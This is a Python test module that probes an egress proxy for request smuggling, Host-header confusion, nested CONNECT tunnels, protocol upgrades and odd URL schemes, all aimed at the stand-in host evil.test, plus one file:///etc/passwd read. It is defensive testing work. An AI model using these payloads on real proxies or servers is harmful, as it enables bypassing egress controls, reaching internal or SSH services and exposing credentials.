"""Where one request ends and the next begins: forms that a proxy and a server may read differently, methods and
protocols that a proxy may not look into. Whatever is hidden says `smuggled` in its path, which the world must never
see.
"""

from __future__ import annotations

import contextlib
from collections.abc import Callable

from .cases import each
from .tools import EVIL4, OK4, PROXY, bearer, over, proxy_send, reached_world, request, tcp, tunnel

HIDDEN = "GET /smuggled HTTP/1.1\r\nHost: evil.test\r\nX: 1\r\n\r\n"
_SIZE = len(HIDDEN)


def _post(headers: str, body: str) -> str:
    return f"POST /v1/messages HTTP/1.1\r\nHost: api.test\r\n{headers}\r\n{body}"


BODIES: dict[str, str] = {
    "length_and_chunks": _post(f"Content-Length: {5 + _SIZE}\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + HIDDEN),
    "chunks_and_length": _post(
        "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", f"{_SIZE:x}\r\n{HIDDEN}\r\n0\r\n\r\n"
    ),
    "two_lengths": _post(f"Content-Length: 0\r\nContent-Length: {_SIZE}\r\n", HIDDEN),
    "two_lengths_turned": _post(f"Content-Length: {_SIZE}\r\nContent-Length: 0\r\n", HIDDEN),
    "length_list": _post(f"Content-Length: 0, {_SIZE}\r\n", HIDDEN),
    "length_plus": _post("Content-Length: +0\r\n", HIDDEN),
    "length_negative": _post("Content-Length: -1\r\n", HIDDEN),
    "length_hex": _post("Content-Length: 0x0\r\n", HIDDEN),
    "length_around": _post("Content-Length: 18446744073709551616\r\n", HIDDEN),
    "length_blank": _post("Content-Length : 0\r\n", HIDDEN),
    "coding_unknown": _post("Transfer-Encoding: xchunked\r\n", "0\r\n\r\n" + HIDDEN),
    "coding_blank": _post("Transfer-Encoding : chunked\r\n", "0\r\n\r\n" + HIDDEN),
    "coding_tab": _post("Transfer-Encoding:\tchunked\r\n", "0\r\n\r\n" + HIDDEN),
    "coding_vertical_tab": _post("Transfer-Encoding: \x0bchunked\r\n", "0\r\n\r\n" + HIDDEN),
    "coding_twice": _post("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n" + HIDDEN),
    "coding_list": _post("Transfer-Encoding: identity, chunked\r\n", "0\r\n\r\n" + HIDDEN),
    "coding_quoted": _post('Transfer-Encoding: "chunked"\r\n', "0\r\n\r\n" + HIDDEN),
    "coding_old": _post("Transfer-Encoding: chunked\r\n", "0\r\n\r\n" + HIDDEN).replace("1.1", "1.0", 1),
    "folded": _post("X: y\r\n Transfer-Encoding: chunked\r\n", "0\r\n\r\n" + HIDDEN),
    "bare_line_feed": _post("X: y\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + HIDDEN),
    "bare_return": _post("X: y\rTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + HIDDEN),
    "chunk_extension": _post("Transfer-Encoding: chunked\r\n", f"0;x\n{HIDDEN}\r\n\r\n"),
    "chunk_extension_long": _post("Transfer-Encoding: chunked\r\n", f"0;{'x' * 4000}\r\n{HIDDEN}"),
    "chunk_size_around": _post("Transfer-Encoding: chunked\r\n", f"10000000000000000\r\n{HIDDEN}0\r\n\r\n"),
    "chunk_size_sign": _post("Transfer-Encoding: chunked\r\n", f"-1\r\n{HIDDEN}\r\n0\r\n\r\n"),
    "chunk_size_prefix": _post("Transfer-Encoding: chunked\r\n", f"0x0\r\n\r\n{HIDDEN}"),
    "trailer": _post("Transfer-Encoding: chunked\r\nTrailer: Host\r\n", f"0\r\nHost: evil.test\r\n{HIDDEN}\r\n"),
    "body_of_a_get": _post("Content-Length: 0\r\nContent-Length: 9\r\n", HIDDEN).replace("POST", "GET", 1),
    "expect": _post(
        "Expect: 100-continue\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + HIDDEN
    ),
    "name_with_blank": _post("Content Length: 0\r\n", HIDDEN),
    "name_with_zero": _post("X\0: y\r\nContent-Length: 0\r\nContent-Length: 1\r\n", HIDDEN),
}


def _judged_as_one(answer: bytes) -> object:
    return b"/smuggled" in answer and answer.count(b'"world": true') > 0


@each(BODIES)
def smuggle(text: str) -> object:
    """Inside the TLS of a credential's host: what is hidden would be judged by nobody."""
    with tunnel("api.test") as wrapped:
        wrapped.settimeout(2)
        return _judged_as_one(over(wrapped, text.encode("latin-1")))


@each({name: BODIES[name] for name in ("length_and_chunks", "two_lengths", "coding_blank", "bare_return", "trailer")})
def smuggle_in_the_clear(text: str) -> object:
    plain = text.replace("POST /v1/messages", "POST http://ok.test/x").replace("Host: api.test", "Host: ok.test", 1)
    with tcp(*PROXY, timeout_s=3) as sock:
        return _judged_as_one(over(sock, plain.encode("latin-1")))


@each(
    {
        "double": f"GET /v1/messages HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\n{bearer()}",
        "double_turned": f"GET /v1/messages HTTP/1.1\r\nHost: evil.test\r\nHost: api.test\r\n{bearer()}",
        "absolute": f"GET https://evil.test/v1/messages HTTP/1.1\r\nHost: api.test\r\n{bearer()}",
        "absolute_plain": f"GET http://evil.test/v1/messages HTTP/1.1\r\nHost: evil.test\r\n{bearer()}",
        "nested": "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n",
        "authority": f"GET //evil.test/v1/messages HTTP/1.1\r\nHost: evil.test\r\n{bearer()}",
        "folded": f"GET /v1/messages HTTP/1.1\r\nHost: api.test\r\n evil.test\r\n{bearer()}",
        "port": f"GET /v1/messages HTTP/1.1\r\nHost: evil.test:443\r\n{bearer()}",
        "userinfo": f"GET /v1/messages HTTP/1.1\r\nHost: api.test@evil.test\r\n{bearer()}",
        "forwarded": f"GET /v1/messages HTTP/1.1\r\nHost: api.test, evil.test\r\n{bearer()}",
        "missing": f"GET /v1/messages HTTP/1.0\r\n{bearer()}",
        "return_in_value": f"GET /v1/messages HTTP/1.1\r\nHost: api.test\r\nX: y\rHost: evil.test\r\n{bearer()}",
    }
)
def inner_host(text: str) -> object:
    """Another host inside the TLS of one that holds a credential."""
    with tunnel("api.test") as wrapped:
        answer = over(wrapped, f"{text}Connection: close\r\n\r\n".encode("latin-1"))
        return b'"host": "evil.test' in answer or b'"address": "198.51.100.66"' in answer


def _nested(outer: str, target: str) -> bytes:
    with tunnel(outer) as wrapped:
        wrapped.settimeout(3)
        return over(wrapped, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())


@each(
    {
        f"{outer.partition('.')[0]}_{name}": (outer, target)
        for outer in ("api.test", "seen.test")
        for name, target in (
            ("public", f"{EVIL4}:9000"),
            ("ssh_of_allowed", "ok.test:22"),
            ("ssh_of_bound", "api.test:22"),
            ("private", "10.77.0.9:9000"),
            ("proxy", "127.0.0.1:3128"),
            ("tls", "evil.test:443"),
        )
    }
)
def nested_connect(how: tuple[str, str]) -> object:
    """A CONNECT inside TLS that is terminated: nothing bumps or splices it any more."""
    answer = _nested(*how)
    return b"SSH-2.0" in answer or answer.startswith(b"HTTP/1.1 200")


@each(
    {
        "preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
        "h2c": "GET http://ok.test/x HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
        "tls_upgrade": "OPTIONS http://ok.test/x HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade\r\n"
        "Upgrade: TLS/1.2\r\n\r\n",
        "ancient": "GET http://evil.test/smuggled\r\n\r\n",
        "version": "GET http://evil.test/smuggled HTTP/9.9\r\nHost: evil.test\r\n\r\n",
        "lower_connect": "connect evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
        "ftp": "GET ftp://evil.test/smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "ftp_allowed": "GET ftp://ok.test/smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
        "gopher": "GET gopher://ok.test/smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
        "wais": "GET wais://ok.test/smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
        "whois": "GET whois://ok.test/smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n",
        "urn": "GET urn:evil.test:smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "file": "GET file:///etc/passwd HTTP/1.1\r\nHost: ok.test\r\n\r\n",
        "https_by_proxy": "GET https://evil.test/smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "split_target": "GET http://evil.test/ smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "split_header": "GET http://ok.test/%0d%0aHost:%20evil.test HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "purge": "PURGE http://evil.test/smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "options_star": "OPTIONS * HTTP/1.1\r\nHost: evil.test\r\nMax-Forwards: 5\r\n\r\n",
        "origin_form": "GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "proxy_protocol": "PROXY TCP4 127.0.0.1 198.51.100.66 1 80\r\nGET /smuggled HTTP/1.1\r\n\r\n",
        "socks5": "\x05\x01\0\x05\x01\0\x03\x09evil.test\x01\xbb",
        "socks4": "\x04\x01\x01\xbb\xc6\x33\x64\x42\0",
        "hello": "\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + "\0" * 500,
        "huge_header": f"GET http://evil.test/smuggled HTTP/1.1\r\nHost: evil.test\r\nX: {'a' * 70000}\r\n\r\n",
        "huge_target": f"GET http://evil.test/smuggled?{'a' * 70000} HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "many_headers": "GET http://evil.test/smuggled HTTP/1.1\r\nHost: evil.test\r\n" + "X: y\r\n" * 5000 + "\r\n",
    }
)
def strange_protocol(text: str) -> object:
    with contextlib.suppress(OSError):
        answer = proxy_send(text.encode("latin-1"))
        first = answer.split(b"\r\n")[0]
        return b" 101 " in first or b"root:" in answer or (reached_world(answer) and b'"host": "ok.test"' not in answer)
    return False


@each({"h2c": "h2c", "tls": "TLS/1.3", "unknown": "smuggled/1"})
def upgrade_inside(protocol: str) -> object:
    """A switched protocol at a credential's host would be a line that nobody looks into."""
    headers = f"Connection: Upgrade\r\nUpgrade: {protocol}\r\n"
    with tunnel("api.test") as wrapped:
        answer = over(wrapped, f"GET /v1/items/ws HTTP/1.1\r\nHost: api.test\r\n{bearer()}{headers}\r\n".encode())
        return answer.startswith(b"HTTP/1.1 101")


@each(
    {"absolute": "http://ok.test/x", "empty": "", "star": "*", "no_slash": "x", "dots": "/../../x", "host": "ok.test"}
)
def intercepted_target(target: str) -> object:
    """Request targets that only a proxy is sent, on the intercepted port, for a host that nothing allows."""
    with tcp(OK4, 80, timeout_s=4) as sock:
        answer = over(sock, f"GET {target} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n".encode())
        return reached_world(answer) and b'"host": "ok.test"' not in answer


def _keep(text: str) -> Callable[[], object]:
    def run() -> object:
        with tunnel("api.test") as wrapped:
            wrapped.sendall(request("/v1/elsewhere", "api.test").replace(b"Connection: close\r\n", b""))
            wrapped.recv(65536)
            answer = over(wrapped, text.encode())
            return b'"host": "evil.test"' in answer or b"/smuggled" in answer

    return run


@each(
    {
        "host": _keep("GET /smuggled HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
        "absolute": _keep("GET https://evil.test/smuggled HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
        "connect": _keep("CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"),
    }
)
def second_inside(run: Callable[[], object]) -> object:
    """Each request of a kept connection is judged by itself."""
    return run()
